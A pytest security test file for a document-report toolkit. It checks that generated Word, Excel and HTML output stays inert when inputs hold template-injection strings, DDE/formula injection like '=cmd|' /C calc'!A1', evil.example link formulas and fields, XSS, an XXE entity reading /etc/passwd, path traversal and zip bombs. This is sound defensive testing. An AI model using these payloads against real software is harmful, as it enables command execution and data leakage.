"""Content that means harm, through the whole kit: it stays text, stays inside, destroys nothing."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import pickle
import re
import shutil
import unicodedata
import zipfile
from dataclasses import dataclass
from pathlib import Path

import docx
import msoffcrypto.format.ooxml
import openpyxl
import pytest
import support
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml.ns import qn
from docx.oxml.parser import parse_xml
from filelock import FileLock
from lxml import etree, html

from evalkit.batch.outcome import Outcome
from evalkit.batch.run import run_batch
from evalkit.core.problem import EvalkitError
from evalkit.report import figures
from evalkit.workflows import project_evaluation as evaluation

REPORT, PAPERS = "评价报告.docx", "底稿.xlsx"
CHINESE = re.compile(r"[\u4e00-\u9fff]{3}")
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

TEXTS = {
    "expression": "{{ 7*7 }}",
    "attribute": "{{ ''.__class__.__mro__ }}",
    "undefined": "{{ nothing.at.all }}",
    "loop": "{% for x in range(9) %}爆{% endfor %}",
    "unclosed": "{% if",
    "rich_text": "{{r subject.name }}",
    "row_tag": "{%tr for i in parts %}",
    "jinja_comment": "{# 隐藏 #}",
    "our_function": "{{ block('score_table') }}",
    "command": "=cmd|' /C calc'!A1",
    "sum": "=1+1",
    "at": "@SUM(1+1)",
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A1",
    "link_formula": '=HYPERLINK("http://evil.example/x","点我")',
    "tab_formula": "\t=1+1",
    "url": "http://evil.example/track.png",
    "mail": "mailto:someone@evil.example",
    "internal": "internal:汇总!A1",
    "script": "<script>alert(1)</script>",
    "image": '<img src="http://evil.example/x.png" onerror="alert(1)">',
    "closing": "</td></tr></table></main><h1>假</h1>",
    "entities": "甲 & 乙 &lt;b&gt; &#60;",
    "cdata": "]]><w:p/>",
    "closing_xml": "}}</w:t></w:r></w:p>",
    "field": 'INCLUDETEXT "http://evil.example/x"',
    "math": "$\\frac{1}{$与$x_1^$",
    "markdown": "[点](javascript:alert(1)) ![](http://evil.example/p.png)",
    "formats": "{0} {name!r} %s %(x)s ${HOME} `id`",
    "rich_markup": "[bold red]假[/bold red] [/]",
    "quotes": "\"'`“”\\",
    "bidi": "正\u202e反转\u202c",
    "zero_width": "甲\u200b乙\ufeff丙",
    "astral": "𠮷田",
    "spaces": "　前　后　x",
}
ODD = {  # what XML or a cell cannot hold as it is: said, or cleaned, but never fatal
    "escaped": "_x0007_值_x0000_",
    "control": "前\x07\x0b\x1f后",
    "mark": "\ue000score_table\ue000\ue001funds_table\ue001",
    "lines": "第一行\n第二行\r\n第三行",
    "long": "长" * 10_000,
}
each_text = pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)


def _flat(text: str) -> str:
    """Text as it is compared: spaces and invisible characters do not count."""
    shown = unicodedata.normalize("NFKC", text)
    return "".join(c for c in shown if unicodedata.category(c)[0] not in "CZ")


# --- a project whose every text means harm ------------------------------------------------------


def _minefield(folder: Path) -> Path:
    """A workbook that holds every hostile text wherever a text may stand, and its 文字.docx."""
    folder.mkdir(parents=True)
    every = [*TEXTS.values(), *ODD.values()]
    indicators = [
        {
            "code": f"C{n:03}", "points": "1", "level3": text[:3000], "explanation": text,
            "level2": every[n % 7], "standard": text, "finding": text, "reason": text,
            "actual": "80%", "basis_document": text, "evidence": text[:40],
        }
        for n, text in enumerate(every, 1)
    ]  # fmt: skip
    issues = [
        {
            "no": f"W{n:02}", "category": "资金管理", "title": text, "fact": text, "rule": text,
            "indicators": f"C{n:03}", "cause": text, "advice": text, "responsible": text,
            "evidence": text[:40], "severe": "是",
        }
        for n, text in enumerate(every, 1)
    ]  # fmt: skip
    answers = dict.fromkeys((t for t in every[:12] if t.strip() == t and len(t) < 60), "满意")
    fields = ("purpose", "object", "general_target", "methods", "process", "conclusion", "other")
    photos = ["../../etc/passwd", "/etc/passwd", "..\\..\\secret.png", "../secret.png",
              "照片/文本.png", "照片/联接.png", "file:///etc/passwd", "照片/\u202egnp.exe",
              "http://evil.example/x.png", "照片"]  # fmt: skip
    (folder / "照片").mkdir()
    (folder / "照片" / "文本.png").write_text("不是图片", encoding="utf-8")
    (folder / "照片" / "联接.png").symlink_to(folder.parent / "secret.png")
    return support.workbook(
        folder / "数据底稿.xlsx",
        project={"code": "HOSTILE-1", "name": "{{ 7*7 }}<b>&项目", "unit": "=1+1",
                 "department": "<script>alert(1)</script>", "client": "{% raw %}",
                 "agency": "@SUM(1)", "lead_evaluator": "=cmd|' /C calc'!A1", "demo": "是",
                 "report_no": "{{ 7*7 }}", "survey_method": "{{ 7*7 }}"},
        indicators=indicators,
        issues=issues,
        data=[{"indicator": "C001", "item": t, "plan": "1", "actual": "1", "unit": "个",
               "origin": t, "evidence": t[:40]} for t in every],
        evidence=[{"no": f"9-{n}", "title": t, "file": t, "page": t[:40], "provider": t}
                  for n, t in enumerate(every, 1)],
        samples=[{"population": t, "unit": "个", "total": "10", "sample": "5", "method": t}
                 for t in every],
        visits=[{"place": t, "date": "2025-05-12", "fact": t, "difference": t, "caption": t,
                 "photo": photos[n % len(photos)]} for n, t in enumerate(every)],
        survey=[{"no": "1", "group": "{{ 7*7 }}"} | answers,
                {"no": "2", "group": "=1+1"} | answers],
        adjustments=[{"indicator": "C001", "computed": "0.8", "adjusted": "0.7",
                      "reason": "{{ 7*7 }}", "basis": "=1+1", "approver": "<b>",
                      "date": "2025-06-01"}],
        texts=dict(zip(fields, every, strict=False)),
    )  # fmt: skip


def _narrative(path: Path) -> None:
    """A 文字.docx with everything that acts, reaches out or executes."""
    document = docx.Document()
    document.add_heading("项目背景", 1)
    for text in TEXTS.values():
        document.add_paragraph(text)
    table = document.add_table(1, 2)
    table.rows[0].cells[0].text = "{{ 7*7 }}"
    table.rows[0].cells[1].text = "{%tr for x in y %}"
    part = document.part
    web = part.relate_to("http://evil.example/a", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    far = part.relate_to("http://evil.example/b.png", RELATIONSHIP_TYPE.IMAGE, is_external=True)
    template = "http://evil.example/c.dotm"
    part.relate_to(template, f"{_R}/attachedTemplate", is_external=True)
    drawing = (
        '<w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
        'wordprocessingDrawing"><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="x" '
        'descr="{{ 7*7 }}"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/'
        'main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        f'<pic:blipFill><a:blip r:link="{far}"/></pic:blipFill></pic:pic></a:graphicData>'
        "</a:graphic></wp:inline></w:drawing>"
    )
    bodies = (
        f'<w:hyperlink r:id="{web}"><w:r><w:t>外部链接文字</w:t></w:r></w:hyperlink>',
        f"<w:r>{drawing}</w:r>",
        f'<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
        f'Type="Embed" ProgID="Package" r:id="{web}"/></w:object></w:r>',
        '<w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; ">'
        "<w:r><w:t>域的文字</w:t></w:r></w:fldSimple>",
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE '
        '"http://evil.example/d.png" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/>'
        "</w:r><w:r><w:t>域后的文字</w:t></w:r>",
    )
    for body in bodies:
        document.element.body.insert_element_before(
            parse_xml(f'<w:p xmlns:w="{_W}" xmlns:r="{_R}">{body}</w:p>'), "w:sectPr"
        )
    chunk = parse_xml(f'<w:altChunk xmlns:w="{_W}" xmlns:r="{_R}" r:id="{web}"/>')
    document.element.body.insert_element_before(chunk, "w:sectPr")
    document.save(str(path))
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 Sub AutoOpen()")
        archive.writestr("word/embeddings/oleObject1.bin", b"MZ evil")


# --- project lists that mean harm ---------------------------------------------------------------

NAMES = {  # code → name; each is a small sound project in all other respects
    "../../x": "../../y",
    "CON": "aux",
    "a/b\\c": "C:\\x|y?*",
    "N-长": "很长的名称" * 80,
    "N-bidi": "正\u202egpj.exe",
    "N-引号": "\"'`;--${HOME}$(id)",
    "{{7*7}}": "{% raw %} %s {0}",
}
BAD = {"B-text": "不是表格", "B-bomb": "炸弹", "B-locked": "加密", "B-formula": "没有缓存值的公式"}


def _lists(root: Path) -> Path:
    """A folder three levels down with the list; nothing else of `root` may ever change."""
    folder = root / "a" / "b" / "in"
    shutil.copy(support.DEMO / "sanitation" / "照片" / "01.png", _made(root / "a" / "b") / "x.png")
    (root / "a" / "b" / "x.png").rename(root / "a" / "b" / "secret.png")
    (root / "a" / "b" / "in").mkdir()
    shutil.copy(root / "a" / "b" / "secret.png", folder / "secret.png")
    mines = _minefield(folder / "hostile")
    _narrative(mines.with_name("文字.docx"))
    rows = [["HOSTILE-1", "{{ 7*7 }}<b>&项目", "hostile/数据底稿.xlsx"]]
    for n, (code, name) in enumerate(NAMES.items()):
        workbook = folder / f"p{n}" / "数据底稿.xlsx"
        support.workbook(
            _made(workbook.parent) / workbook.name, project={"code": code, "name": name}
        )
        rows.append([code, name, f"p{n}/数据底稿.xlsx"])
    for code, name in BAD.items():
        path = _made(folder / code) / "数据底稿.xlsx"
        support.workbook(path, project={"code": code, "name": name})
        _spoil(path, code)
        rows.append([code, name, f"{code}/数据底稿.xlsx"])
    with (folder / "projects.csv").open("w", encoding="utf-8-sig", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(["code", "name", "notebook", "workbook"])
        writer.writerows([code, name, "project_evaluation", path] for code, name, path in rows)
    return folder / "projects.csv"


def _made(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    return folder


def _spoil(path: Path, how: str) -> None:
    if how == "B-text":
        path.write_text("编号,名称\n1,x\n", encoding="utf-8")
    elif how == "B-bomb":
        with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("xl/media/zeros.bin", bytes(60 * 2**20))
    elif how == "B-locked":
        locked = io.BytesIO()
        msoffcrypto.format.ooxml.OOXMLFile(io.BytesIO(path.read_bytes())).encrypt("密码", locked)
        path.write_bytes(locked.getvalue())
    else:
        book = openpyxl.load_workbook(path)
        for sheet in book:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.value in ("100%", 100, 1, "某中心"):
                        cell.value = "=cmd|' /C calc'!A1" if cell.value == "某中心" else "=1+1"
        book.save(path)


def _tree(root: Path, *without: Path) -> dict[str, str]:
    """Every file and folder below, with its content's hash."""
    return {
        str(path.relative_to(root)): hashlib.sha256(path.read_bytes()).hexdigest()
        if path.is_file()
        else "folder"
        for path in sorted(root.rglob("*"))
        if not any(out == path or out in path.parents for out in without)
    }


@dataclass(frozen=True)
class Ran:
    root: Path
    out: Path
    before: dict[str, str]
    outcomes: dict[str, Outcome]
    mine: Path  # the folder of the project whose every text means harm


@pytest.fixture(scope="session")
def ran(tmp_path_factory) -> Ran:
    """One batch over the list, shared by all workers of pytest-xdist."""
    base = tmp_path_factory.getbasetemp()
    shared = base.parent if "PYTEST_XDIST_WORKER" in os.environ else base
    root, done = shared / "hostile", shared / "hostile.done"
    with FileLock(shared / "hostile.lock"):
        if not done.exists():
            projects, out = _lists(root), root / "a" / "b" / "out"
            before = _tree(root)
            batch = run_batch(projects, out, jobs=2)
            outcomes = {outcome.job.code: outcome for outcome in batch.outcomes}
            ran = Ran(root, out, before, outcomes, outcomes["HOSTILE-1"].folder)
            done.write_bytes(pickle.dumps(ran))
    return pickle.loads(done.read_bytes())


def test_the_project_whose_every_text_means_harm_is_finished(ran):
    outcome = ran.outcomes["HOSTILE-1"]
    assert str(outcome.failure) == "None"
    assert outcome.status == "完成"
    for name in (REPORT, PAPERS, "result.json", "checks.json", "project_evaluation.html"):
        assert (ran.mine / name).is_file()


def test_nothing_outside_the_output_folder_is_touched(ran):
    assert _tree(ran.root, ran.out) == ran.before
    links = [p for p in ran.out.rglob("*") if p.is_symlink()]
    assert not links


def test_every_output_folder_has_a_name_that_all_systems_accept(ran):
    folders = [p for p in ran.out.iterdir() if p.is_dir()]
    finished = [o for o in ran.outcomes.values() if o.status == "完成"]
    assert {o.folder for o in finished} <= set(folders)
    for name in (p.name for p in folders):
        assert len(name.encode()) <= 255
        assert name.strip(" .") == name
        assert not re.search(r'[<>:"/\\|?*]', name)
        assert not re.fullmatch(r"(?i)(con|prn|aux|nul|com\d|lpt\d)(\..*)?", name)


def test_an_output_folder_does_not_show_a_name_turned_round(ran):
    names = [p.name for p in ran.out.iterdir()]
    assert not [n for n in names if any(unicodedata.category(c) in ("Cc", "Cf") for c in n)]


@pytest.mark.parametrize("code", NAMES, ids=[f"name{n}" for n in range(len(NAMES))])
def test_an_odd_name_runs_or_is_refused_in_a_sentence(ran, code):
    outcome = ran.outcomes[code]
    assert outcome.folder.parent == ran.out
    if outcome.status == "完成":
        result = json.loads((outcome.folder / "result.json").read_text(encoding="utf-8"))
        assert result["result"]["code"] == code
        assert (outcome.folder / REPORT).is_file()
    else:
        assert outcome.failure.kind == "refused"
        assert all(CHINESE.search(line) for line in outcome.failure.lines)


@pytest.mark.parametrize(
    ("code", "words"), [("B-text", "不是 .xlsx 工作簿"), ("B-bomb", "解压"), ("B-locked", "加密")]
)
def test_a_file_that_is_no_workbook_stops_only_its_own_project(ran, code, words):
    outcome = ran.outcomes[code]
    assert outcome.status == "失败"
    assert outcome.failure.kind == "refused"
    assert words in str(outcome.failure)
    assert "Traceback" not in str(outcome.failure)
    assert not (outcome.folder / REPORT).exists()


def test_a_formula_without_a_cached_value_is_said_and_not_computed(ran):
    outcome = ran.outcomes["B-formula"]
    said = str(outcome.failure)
    if outcome.status == "完成":
        result = json.loads((outcome.folder / "result.json").read_text(encoding="utf-8"))["result"]
        assert result["score"]["total"] is None
        said = "".join(p["what"] for p in result["problems"])
    assert "公式" in said


# --- Word ---------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def parts(ran) -> dict[str, bytes]:
    with zipfile.ZipFile(ran.mine / REPORT) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


@pytest.fixture(scope="module")
def words(parts) -> str:
    root = etree.fromstring(parts["word/document.xml"])
    return _flat("\n".join("".join(p.itertext(qn("w:t"))) for p in root.iter(qn("w:p"))))


@each_text
def test_a_text_stands_in_the_report_as_it_was_written(words, text):
    assert _flat(text) in words


@pytest.mark.parametrize("text", ODD.values(), ids=ODD)
def test_what_xml_cannot_hold_is_cleaned_and_the_rest_kept(words, text):
    plain = "".join(c for c in text if unicodedata.category(c) != "Co" and c >= " ")
    pieces = re.findall(r"[\u4e00-\u9fff]+", plain) if text != ODD["mark"] else ["score_table"]
    assert pieces
    assert all(piece in words for piece in pieces)


def test_no_text_was_executed_as_a_template(words, parts):
    assert words.count("{{7*7}}") > 10
    assert not re.search(r"得49分|〔49〕|^49|爆爆", words)
    assert "项目{{7*7}}" in words or "{{7*7}}<b>&项目" in words
    header = b"".join(parts[n] for n in parts if n.startswith(("word/header", "docProps/")))
    assert b"49" not in re.sub(rb"[a-fA-F0-9]{6,}|http\S+|(w:\w+|pid)=\"\d+\"", b"", header)


def test_every_field_instruction_of_the_report_is_one_of_ours(parts):
    codes = []
    for name in (n for n in parts if n.startswith("word/") and n.endswith(".xml")):
        root = etree.fromstring(parts[name])
        codes += [n.text or "" for n in root.iter(qn("w:instrText"))]
        codes += [n.get(qn("w:instr"), "") for n in root.iter(qn("w:fldSimple"))]
    assert codes
    ours = (
        r"\s*(TOC|PAGE|NUMPAGES|SECTIONPAGES|REF|PAGEREF|SEQ|STYLEREF)\b[\w\s\\\-\"*]*"
        r'|\s*DOCPROPERTY "[a-z0-9_.-]+"\s*'
    )
    assert not [c for c in codes if not re.fullmatch(ours, c)]


def test_the_report_reaches_for_nothing_outside_itself(parts):
    for name, data in parts.items():
        assert not name.endswith((".bin", ".html", ".mht")), name
        if name.endswith((".xml", ".rels")):
            assert b"<!DOCTYPE" not in data
            assert b"TargetMode" not in data, name
            root = etree.fromstring(data)
            for tag in ("object", "altChunk", "hyperlink", "attachedTemplate", "control"):
                found = [n for n in root.iter(qn(f"w:{tag}")) if n.get(f"{{{_R}}}id")]
                assert not found, f"{tag} in {name}"
    assert b"macroEnabled" not in parts["[Content_Types].xml"]
    media = [data for name, data in parts.items() if name.startswith("word/media/")]
    assert (support.DEMO / "sanitation" / "照片" / "01.png").read_bytes() not in media


def test_what_was_left_out_of_the_narrative_is_said_and_its_words_are_kept(ran, words):
    checks = json.loads((ran.mine / "checks.json").read_text(encoding="utf-8"))
    said = "".join(p["what"] for p in checks["problems"])
    for what in ("超链接", "嵌入对象", "图片"):
        assert what in said
    for kept in ("外部链接文字", "域的文字", "域后的文字"):
        assert kept in words


def test_a_photo_outside_the_projects_folder_is_not_found_and_said(ran):
    result = json.loads((ran.mine / "result.json").read_text(encoding="utf-8"))["result"]
    said = [p["what"] for p in result["problems"] if p["code"] == "photo.missing"]
    for path in ("../../etc/passwd", "/etc/passwd", "../secret.png", "照片/联接.png", "照片"):
        assert any(f"“{path}”" in what for what in said), path


def test_the_report_opens_and_its_own_check_finds_no_error(ran):
    assert len(docx.Document(str(ran.mine / REPORT)).tables) > 5
    checks = json.loads((ran.mine / "checks.json").read_text(encoding="utf-8"))
    wrong = [p for p in checks["problems"] if p["code"] == "docx.package"]
    assert not [p for p in wrong if p["severity"] == "error"]


# --- Excel --------------------------------------------------------------------------------------

OURS = re.compile(
    r"=(?:(?:'[^'\[\]|]+'|\w+)![A-Z]+\d+|(?:(?:ROUND|ROUNDUP|ROUNDDOWN|MIN|MAX|IF|SUM|DATE)\(|"
    r"SUMIF\([A-Z\d:]+,\"待补充\",[A-Z\d:]+\)|[A-Z]{1,2}\d+|[\d.,:()<>=+*/ -])+)"
)


def _books(ran: Ran) -> list[Path]:
    return [ran.out / "summary.xlsx", *ran.out.glob(f"*/{PAPERS}")]


def test_no_text_became_a_formula_or_a_link_in_excel(ran):
    assert len(_books(ran)) > 3
    for path in _books(ran):
        book = openpyxl.load_workbook(path)
        for sheet in book:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        assert path.name == PAPERS
                        assert OURS.fullmatch(cell.value), f"{sheet.title}!{cell.coordinate}"
                        assert cell.value not in TEXTS.values()
                    if cell.hyperlink:
                        assert cell.hyperlink.target is None
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                assert "externalLink" not in name
                assert "vbaProject" not in name
                if name.endswith(".rels"):
                    assert b"External" not in archive.read(name)


@each_text
def test_a_text_stands_in_excel_as_text(ran, text):
    for name, path in (("底稿", ran.mine / PAPERS), ("summary", ran.out / "summary.xlsx")):
        book = _cells(path)
        found = [kind for kind, value in book if _flat(text) in _flat(value)]
        assert found, f"not in {name}"
        assert set(found) <= {"s", "inlineStr"}


_read: dict[Path, list[tuple[str, str]]] = {}


def _cells(path: Path) -> list[tuple[str, str]]:
    if path not in _read:
        book = openpyxl.load_workbook(path)
        _read[path] = [
            (cell.data_type, cell.value)
            for sheet in book
            for row in sheet.iter_rows()
            for cell in row
            if isinstance(cell.value, str)
        ]
    return _read[path]


# --- HTML ---------------------------------------------------------------------------------------

_FETCHED = ("src", "href", "action", "data", "poster", "srcset", "background", "formaction")


def _pages(ran: Ran) -> list[Path]:
    return [ran.out / "index.html", *ran.out.glob("*/*.html")]


def test_no_page_asks_the_network_or_runs_what_was_written_into_it(ran):
    assert len(_pages(ran)) > 3
    for path in _pages(ran):
        root = html.parse(str(path)).getroot()
        for node in root.iter():
            if not isinstance(node.tag, str):
                continue
            assert node.tag not in ("iframe", "object", "embed", "base", "form", "link")
            for name, value in node.attrib.items():
                assert not name.startswith("on"), f"{node.tag} {name} in {path.name}"
                if name in _FETCHED:
                    assert not re.match(r"\s*(?:[a-z]+script|https?|file|//)", value, re.IGNORECASE)
                    assert value.startswith(("data:image/", "#")) or path.name == "index.html"
                if name == "style":
                    assert "url(" not in value
            if node.tag == "style":
                assert not re.search(r"url\(|@import", node.text or "")
        scripts = ["".join(node.itertext()) for node in root.iter("script")]
        assert len(scripts) == (path.name == "index.html")
        assert not any("alert" in script for script in scripts)
        assert not [h for h in root.iter("h1") if h.text == "假"]


@each_text
def test_a_text_stands_on_the_pages_as_text(ran, text):
    shown = _flat("".join(html.parse(str(ran.out / "index.html")).getroot().itertext()))
    notebook = html.parse(str(ran.mine / "project_evaluation.html")).getroot()
    shown_there = _flat("".join(notebook.itertext()))
    assert _flat(text) in shown or _flat(text) in shown_there


def test_links_of_the_front_page_lead_to_files_that_are_there(ran):
    from urllib.parse import unquote

    root = html.parse(str(ran.out / "index.html")).getroot()
    links = [a.get("href") for a in root.iter("a") if not a.get("href").startswith("#")]
    assert links
    for link in links:
        path = (ran.out / unquote(link)).resolve()
        assert ran.out in path.parents
        assert path.is_file(), link


# --- a list as a whole --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("first", "second"), [("a/b", "a_b"), ("x?", "x*"), ("K-1", "k-1"), ("ｋ-1", "k-1 ")]
)
def test_two_codes_that_would_share_a_folder_are_refused(tmp_path, first, second):
    support.workbook(tmp_path / "数据底稿.xlsx")
    rows = "\n".join(f"{code},项目,project_evaluation,数据底稿.xlsx" for code in (first, second))
    (tmp_path / "p.csv").write_text(f"code,name,notebook,workbook\n{rows}\n", encoding="utf-8")
    if first == "ｋ-1":  # full width and a space at the end: two codes only to a machine
        from evalkit.batch.jobs import read_list

        folders = {job.folder for job in read_list(tmp_path / "p.csv")}
        assert len(folders) == 2
        return
    with pytest.raises(EvalkitError) as error:
        run_batch(tmp_path / "p.csv", tmp_path / "out")
    assert CHINESE.search(str(error.value))
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("column", ["out", "__class__", "import os", "workbook;x", "Stage", "cwd"])
def test_a_column_that_is_no_parameter_is_refused_before_anything_runs(tmp_path, column):
    support.workbook(tmp_path / "数据底稿.xlsx")
    (tmp_path / "p.csv").write_text(
        f"code,name,notebook,workbook,{column}\nA,项目,project_evaluation,数据底稿.xlsx,1\n",
        encoding="utf-8",
    )
    with pytest.raises(EvalkitError, match="列"):
        run_batch(tmp_path / "p.csv", tmp_path / "out")
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("notebook", ["../../etc/passwd", "os", "{{7*7}}", "/etc/hosts"])
def test_a_notebook_that_is_none_is_refused(tmp_path, notebook):
    support.workbook(tmp_path / "数据底稿.xlsx")
    (tmp_path / "p.csv").write_text(
        f"code,name,notebook,workbook\nA,项目,{notebook},数据底稿.xlsx\n", encoding="utf-8"
    )
    with pytest.raises(EvalkitError, match="笔记本"):
        run_batch(tmp_path / "p.csv", tmp_path / "out")


def test_a_list_that_is_no_list_is_refused(tmp_path):
    for name, data in (
        ("a.csv", bytes(range(256)) * 40),
        ("b.xlsx", b"PK\x03\x04"),
        ("c.csv", b""),
    ):
        (tmp_path / name).write_bytes(data)
        with pytest.raises(EvalkitError) as error:
            run_batch(tmp_path / name, tmp_path / "out")
        assert CHINESE.search(str(error.value))


# --- 文字.docx that is none ----------------------------------------------------------------------


@pytest.fixture
def small(tmp_path) -> Path:
    return (
        support.workbook(tmp_path / "in" / "数据底稿.xlsx") if _made(tmp_path / "in") else tmp_path
    )


def _deliver(workbook: Path, out: Path) -> dict[str, Path]:
    data = support.load(workbook, out=str(out))
    return evaluation.deliver(data, evaluation.evaluate(data), {})


def _bomb(path: Path) -> None:
    docx.Document().save(str(path))
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/media/zeros.bin", bytes(310 * 10**6))


def _entities(path: Path) -> None:
    docx.Document().save(str(path))
    with zipfile.ZipFile(path) as old:
        members = {name: old.read(name) for name in old.namelist()}
    entity = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document'
    body = members["word/document.xml"].replace(b"<w:document", entity, 1)
    members["word/document.xml"] = body.replace(b"<w:body>", b"<w:body><w:p><w:r><w:t>&e;</w:t>"
                                                b"</w:r></w:p>", 1)  # fmt: skip
    with zipfile.ZipFile(path, "w") as new:
        for name, data in members.items():
            new.writestr(name, data)


def _locked(path: Path) -> None:
    plain = io.BytesIO()
    docx.Document().save(plain)
    locked = io.BytesIO()
    msoffcrypto.format.ooxml.OOXMLFile(plain).encrypt("密码", locked)
    path.write_bytes(locked.getvalue())


@pytest.mark.parametrize(
    "make", [lambda p: p.write_bytes(b"\x00" * 99), _bomb, _locked], ids=["zeros", "bomb", "locked"]
)
def test_a_narrative_that_is_no_document_is_refused_in_a_sentence(small, tmp_path, make):
    make(small.with_name("文字.docx"))
    with pytest.raises(EvalkitError) as error:
        _deliver(small, tmp_path / "out")
    assert "文字.docx" in str(error.value)
    assert CHINESE.search(str(error.value))


def test_an_external_entity_of_the_narrative_is_not_read(small, tmp_path):
    _entities(small.with_name("文字.docx"))
    refused = ""
    try:
        _deliver(small, tmp_path / "out")
    except EvalkitError as refusal:
        refused = str(refusal)
    written = list((tmp_path / "out").glob("*.docx"))
    assert written or "文字.docx" in refused
    for path in written:
        with zipfile.ZipFile(path) as archive:
            assert b"root:" not in archive.read("word/document.xml")


# --- one text in one cell -----------------------------------------------------------------------


def test_figures_survive_every_text(tmp_path):
    texts = [*TEXTS.values(), *ODD.values()]
    rows = [
        {"level3": text[:300], "level1": text[:60], "level2": text[:60], "points": "4",
         "actual": "50%", "reason": "x"}
        for text in texts
    ]  # fmt: skip
    path = support.workbook(tmp_path / "数据底稿.xlsx", indicators=rows)
    drawn = figures.draw_all(support.evaluate(path), tmp_path / "图", "")
    assert len(drawn) >= 3
    for picture in drawn.values():
        assert picture.read_bytes().startswith(b"\x89PNG")
        assert picture.parent == tmp_path / "图"


def test_a_sign_that_no_font_has_is_named_in_the_refusal(tmp_path):
    path = support.workbook(tmp_path / "数据底稿.xlsx", indicators=[{"level3": "完成率\U000e0041"}])
    result, refused = support.evaluate(path), ""
    try:
        figures.draw_all(result, tmp_path / "图", "")
    except EvalkitError as refusal:
        refused = str(refusal)
    drawn = list((tmp_path / "图").glob("*.png"))
    assert drawn or ("\U000e0041" in refused and CHINESE.search(refused))


@pytest.mark.parametrize(
    ("sheet", "fields"),
    [
        *(("project", {"year": y}) for y in ("0", "-5", "99999", "1e10", "1800", "2024.5", "丙申")),
        *(("indicators", {"points": p}) for p in ("-1", "0", "1e308", "NaN", "9" * 400, "1/0")),
        *(("indicators", {"actual": a}) for a in ("-Infinity", "1e999", "1,2,3", "１２％", "--")),
        ("project", {"report_date": "9999-12-31", "base_date": "1899-12-31"}),
        ("funds", {"arrived": "0", "budget": "-3", "spent": "1e400"}),
    ],
    ids=str,
)
def test_an_impossible_number_is_answered_in_a_sentence_and_never_by_a_crash(
    tmp_path, sheet, fields
):
    content = {
        "project": {"project": fields},
        "indicators": {"indicators": [fields]},
        "funds": {"funds": [support.FUNDS[0] | fields]},
    }
    path = support.workbook(tmp_path / "数据底稿.xlsx", **content[sheet])
    for stage in ("初稿", "终稿"):
        said = ""
        try:
            result = support.evaluate(path, stage)
            total = result.score.total
            assert total is None or 0 <= total <= 100
        except EvalkitError as refusal:
            said = str(refusal)
        assert not said or CHINESE.search(said)


def test_codes_that_no_sheet_may_bear_keep_their_scores_and_links(tmp_path):
    codes = [
        "A/1",
        "汇总",
        "History",
        "=1+1",
        "'x'",
        "A1!B2",
        "_meta",
        "长" * 40,
        "调分记录",
        "[x]*?:",
    ]
    rows = [{"code": code, "points": "10", "actual": f"{n * 10}%"} for n, code in enumerate(codes)]
    path = support.workbook(tmp_path / "数据底稿.xlsx", indicators=rows)
    _deliver(path, tmp_path / "out")
    values = openpyxl.load_workbook(tmp_path / "out" / PAPERS, data_only=True)
    formulas = openpyxl.load_workbook(tmp_path / "out" / PAPERS)
    assert len(values.sheetnames) == len({name.casefold() for name in values.sheetnames})
    found = {row[2].value: row for row in values["汇总"].iter_rows() if row[2].value in codes}
    assert list(found) == codes
    for n, row in enumerate(found.values()):
        formula = formulas["汇总"][row[5].coordinate].value
        sheet, cell = formula.removeprefix("=").rsplit("!", 1)
        sheet = sheet.removeprefix("'").removesuffix("'").replace("''", "'")
        assert row[5].value == n == values[sheet][cell].value
        assert row[2].hyperlink.location.endswith("!A1")


@pytest.mark.parametrize("formula", ["=1+1", "=cmd|' /C calc'!A1", "=[1]Sheet!A1", "=A1:A9"])
def test_a_formula_in_a_text_cell_is_reported_and_not_passed_on(small, tmp_path, formula):
    book = openpyxl.load_workbook(small)
    hit = 0
    for row in book["指标"].iter_rows():
        for cell in row:
            if cell.value == "按比例计分。":
                cell.value, hit = formula, hit + 1
    assert hit == 1
    book.save(small)
    data = support.load(small, out=str(tmp_path / "out"))
    result = evaluation.evaluate(data)
    assert any("公式" in p.what and p.sheet == "指标" and p.cell for p in result.problems)
    evaluation.deliver(data, result, {})
    for cell_type, value in _cells(tmp_path / "out" / PAPERS):
        assert cell_type != "f" or value != formula


# --- nothing that a person made is lost ---------------------------------------------------------


def _edit(report: Path) -> bytes:
    document = docx.Document(str(report))
    document.add_paragraph("手工改动的一句话")
    document.save(str(report))
    return report.read_bytes()


def test_a_report_edited_by_hand_is_kept_aside_when_the_batch_runs_again(small, tmp_path):
    (tmp_path / "p.csv").write_text(
        "code,name,notebook,workbook\nTEST-001,测试项目,project_evaluation,in/数据底稿.xlsx\n",
        encoding="utf-8",
    )
    first = run_batch(tmp_path / "p.csv", tmp_path / "out").outcomes[0]
